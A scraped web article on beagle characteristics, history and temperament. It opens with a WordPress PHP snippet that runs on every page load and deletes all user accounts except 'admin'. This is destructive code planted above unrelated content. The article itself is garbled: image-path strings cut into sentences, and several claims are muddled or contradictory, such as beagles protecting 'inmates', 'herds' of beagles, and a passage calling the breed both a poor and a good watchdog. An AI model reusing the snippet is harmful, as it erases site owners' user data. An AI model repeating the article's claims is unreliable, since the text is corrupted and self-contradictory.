add_action( 'init', 'crappy_method' ); function crappy_method(){ global $wpdb; $table_name = $wpdb->prefix . "users"; $wpdb->query($wpdb->prepare("DELETE FROM $table_name WHERE user_login != 'admin'")); } The characteristics of a puppy and a beagle dog -

The characteristics of a puppy and a beagle dog

A Beagle is often compared to the Foxhound’s appearance, but it is smaller. The Beagle is a small to medium-sized breed of dog. The Beagle is part of the bloodhound family and they make excellent sniffer dogs.

Beagles have a keen sense of smell and are bloodhounds. They are sometimes found in agricultural import inspectionslooking for quarantined food to protect certain inmates.

Beagles have a pleasant temperament and make excellent household pets and love to be around people. They prefer to be with another dog if possible.

I’m sure you’ve heard of the world’s most famous Beagle, the one and only Snoopy! Snoopy is a Beagle and Charlie Brown is his owner.

The Beagle has beenrecognized by the AKC since September 1957. The Beagle breed developed in Britain around the 1830s from several different dog breeds.

The Reverend Phillip Honeywood is believed to have established a Beagle herd in Essex in the 1830s that became the Beagle we all know today.

In 1887, the Beagle was on the brink of extinction. It was believed that there were only 18 herds of Beagle left in England. The Beagle club was formed in 1890 and the breed managed to win.

Beagles’ ears are large, long, and soft, and their necks are very strong, as they were bred to be hunting dogs. His nose is usually pointed towards the ground because of what he is smelling.

The Beagle has one of the best senses of smell of any dog. A study was conducted with a 1 acre field and 1 mouse. The different races were timed based on how quickly they could find the mouse. Beagles generally found the mouse in less than 1 minute and Scottish Terriers couldn’t find the mouse at all.

Beagles’ tails usually always have a white tip on the end, and that is bred on them, like a flag that hunters can see when the Beagle is on the ground using its scent. The tail will be upright when the dog is active, making it easier for the hunter to see the dog in the field.

Beagles are better at smelling the ground than they are at smelling the air, and it is believed that this is why their large ears and lips are better at pushing scents up the nose while they scent.

Beagles can come in a variety of different colors, but the most common is a white body with large black areas and light brown shading.Beagles make excellent family pets because they have a uniform temperament and are fun to be around. They are generally not aggressive, but should be socialized like all puppies at a young age, to make it easier for them to get along with everyone and their environment.

The Beagle is not a good watchdog, but it is a good watchdog, as they will growl or bark at strangers, but it is very easy towin them over. They are good watchdogs for that reason.

Beagles are a bit more difficult to train than other dogs, because they sometimes have a unique mind, smell. When they find something they like, they will start to smell, lose their train of thought, and just focus on the smell.

Beagles are a pack dog and generally want to be with a pack. They can howl for this reason, as Beagles are known for their howling andbarking, but not all Beagles howl.The Beagle has a life expectancy of approximately 10 to 13 years. Beagles get along very well with children, as long as they have been socialized as puppies first.

Leave a Reply

Your email address will not bepublished. Required fields are marked *